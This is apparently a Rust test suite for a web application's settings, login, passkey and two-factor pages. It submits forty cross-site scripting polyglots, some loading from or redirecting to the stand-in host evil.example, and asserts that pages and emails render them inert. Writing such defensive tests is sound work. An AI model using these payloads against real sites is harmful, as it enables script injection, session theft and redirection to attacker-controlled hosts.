//! Script injection, in every field that is stored and shown.

use callbook::messaging::dev::Content;
use scraper::Html;

use crate::auth::second_factor::{digits, enable, key_of};
use crate::support::passkey::Device;
use crate::support::{Browser, TestApp};

/// Lists forty polyglots that have run as script somewhere; each begins with its number.
fn polyglots() -> Vec<String> {
    let spellings = [
        "<script>pwn()</script>",
        "\"><script>pwn()</script>",
        "'><script>pwn()</script>",
        "</title><script>pwn()</script>",
        "</textarea><script>pwn()</script>",
        "</script><script>pwn()</script>",
        "<ScRiPt>pwn()</sCrIpT>",
        "<script/src=//evil.example>",
        "<img src=x onerror=pwn()>",
        "\"><img src=x onerror=pwn()>",
        "<svg onload=pwn()>",
        "<svg/onload=pwn()>",
        "<svg><script>pwn()</script></svg>",
        "<body onload=pwn()>",
        "<iframe srcdoc='<script>pwn()</script>'>",
        "<iframe src=javascript:pwn()>",
        "<a href=javascript:pwn()>x</a>",
        "<math href=javascript:pwn()>x</math>",
        "<details open ontoggle=pwn()>",
        "<video><source onerror=pwn()></video>",
        "<input autofocus onfocus=pwn()>",
        "\" autofocus onfocus=pwn() x=\"",
        "' autofocus onfocus=pwn() x='",
        "\" onmouseover=pwn() x=\"",
        "` onmouseover=pwn() x=`",
        "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<base href=//evil.example>",
        "<link rel=stylesheet href=//evil.example>",
        "<style>@import'//evil.example'</style>",
        "<form action=//evil.example>",
        "<button formaction=javascript:pwn()>",
        "<object data=javascript:pwn()>",
        "<embed src=javascript:pwn()>",
        "<template><script>pwn()</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=pwn()>\">",
        "--><script>pwn()</script>",
        "]]><script>pwn()</script>",
        "{{constructor.constructor('pwn()')()}}",
        "${pwn()} #{pwn()} {% pwn %}",
        "hx-on:load=pwn() hx-get=//evil.example",
    ];
    spellings.iter().enumerate().map(|(n, text)| format!("{n:02}{text}")).collect()
}

/// Checks that a page has no element or attribute that ours do not have.
fn assert_tame(html: &str, what: &str) {
    let document = Html::parse_document(html);
    for element in document.tree.values().filter_map(|node| node.as_element()) {
        let name = element.name();
        assert!(
            !["iframe", "object", "embed", "base", "math", "video"].contains(&name),
            "{what}: <{name}>"
        );
        for (attribute, value) in element.attrs() {
            let runs = attribute.starts_with("on") || attribute.starts_with("hx-on");
            assert!(
                !runs && !value.trim_start().to_lowercase().starts_with("javascript:"),
                "{what}: {attribute}={value}"
            );
            assert!(
                attribute == "value"
                    || attribute.starts_with("data-")
                    || !value.contains("evil.example"),
                "{what}: {attribute}={value}"
            );
        }
    }
    let scripts = scraper::Selector::parse("script:not([src]), style, img").unwrap();
    assert_eq!(document.select(&scripts).count(), 0, "{what}");
}

async fn rename(browser: &Browser, name: &str) -> u16 {
    let page = browser.get("/settings").await.page();
    let form = page.form("/settings/general").fill("general-name", name);
    browser.submit(&form).await.status
}

#[tokio::test]
async fn xss_matrix() {
    let app = TestApp::new().await;
    let alice = app.sign_in("alice").await;
    assert_eq!(polyglots().len(), 40);
    for text in polyglots() {
        assert_eq!(rename(&alice, &text).await, 303, "{text}");
        let reply = alice.get("/settings").await.expect(200);
        let page = reply.page();
        assert_eq!(page.form("/settings/general").value("general-name"), text);
        assert_tame(&reply.text, &text);
        // Fields that refuse it show it again in the form.
        for (action, id) in [
            ("/settings/emails", "emails-address"),
            ("/settings/phones", "phones-number"),
            ("/settings/other", "other-on_call_layers"),
        ] {
            let reply = alice.submit_by_script(&page.form(action).fill(id, &text)).await;
            assert_tame(&reply.text, &format!("{action} {text}"));
        }
        let visitor = app.visitor();
        let reply = visitor.sign_in(&text, &text).await;
        assert_tame(&reply.text, &format!("/login {text}"));
        let query = crate::support::url_encode([("next", text.as_str())].into_iter());
        assert_tame(&visitor.get(&format!("/login?{query}")).await.text, &text);
        let query = crate::support::url_encode([("number", text.as_str())].into_iter());
        let path = format!("/settings/history/receipt?{query}");
        assert_tame(&alice.get(&path).await.expect(404).text, &path);
        let query = [("address", text.as_str()), ("kept", text.as_str())];
        let query = crate::support::url_encode(query.into_iter());
        let reply = alice.get(&format!("/settings/emails?{query}")).await.expect(200);
        assert_eq!(reply.page().form("/settings/emails").value("emails-address"), "");
        assert_tame(&reply.text, &query);
        // The first of them are accepted; the others exceed the maximum and come back.
        let name: String = text.chars().take(60).collect();
        let reply = Device::new(&app).enrol(&alice, &name).await;
        assert_tame(&reply.text, &format!("passkey {name}"));
        app.pass(std::time::Duration::from_secs(60 * 60));
        alice.post("/sudo", &[("proof", crate::support::password_of("alice"))]).await.expect(303);
    }
    let reply = alice.get("/settings").await.expect(200);
    assert_eq!(reply.page().all("#passkeys .row").len(), 20);
    assert_tame(&reply.text, "passkeys");
    app.deliver().await;
}

#[tokio::test]
async fn what_is_named_like_a_script_is_mailed_and_listed_as_text() {
    let app = TestApp::new().await;
    let alice = app.sign_in("alice").await;
    let text = "\"><img src=x onerror=pwn()>";
    rename(&alice, text).await;
    enable(&app, &alice).await;
    let page = alice.get("/settings/two-factor/enrolment").await.page();
    let form = page
        .form("/settings/two-factor/enrolment")
        .fill("enrolment-name", text)
        .fill("enrolment-code", &digits(&app, &key_of(&page)));
    alice.submit(&form).await.expect(303);
    let reply = alice.get("/settings").await.expect(200);
    assert_tame(&reply.text, "settings");
    assert!(reply.page().texts("#two-factor .row-name").contains(&text.to_owned()));
    let removal = reply.page().all("#two-factor a[href*='/authenticators/']")[1]
        .attr("href")
        .unwrap()
        .to_owned();
    assert_tame(&alice.get(&removal).await.expect(200).text, "removal");
    let outbox = app.outbox().await;
    assert_eq!(outbox.len(), 2);
    for kept in outbox {
        let Content::Mail { html, .. } = kept.content else { panic!("no mail") };
        let document = Html::parse_document(&html);
        let images = scraper::Selector::parse("img, script").unwrap();
        assert_eq!(document.select(&images).count(), 0);
        assert!(html.contains("&#34;&#62;&#60;img") || html.contains("&quot;&gt;&lt;img"));
    }
}
